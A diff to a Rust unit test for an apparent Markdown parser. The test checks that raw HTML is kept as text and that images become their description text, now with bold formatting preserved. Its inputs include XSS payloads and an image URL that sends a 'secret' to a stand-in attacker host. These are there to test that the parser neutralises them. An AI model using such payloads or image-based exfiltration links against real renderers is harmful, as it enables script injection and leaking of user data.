@@ -31,7 +31,7 @@ fn citations_are_found_in_running_text_only() {
 fn html_stays_text_and_images_become_their_description() {
     assert_eq!(
         parse("a <img src=x onerror=alert(1)> ![the **plan**](https://evil.example/?q=secret)"),
-        vec![Block::Paragraph(vec![text("a <img src=x onerror=alert(1)> the plan")])]
+        vec![Block::Paragraph(vec![text("a <img src=x onerror=alert(1)> the "), Inline::Strong(vec![text("plan")])])]
     );
     assert_eq!(
         parse("<script>\nalert(1)\n</script>"),
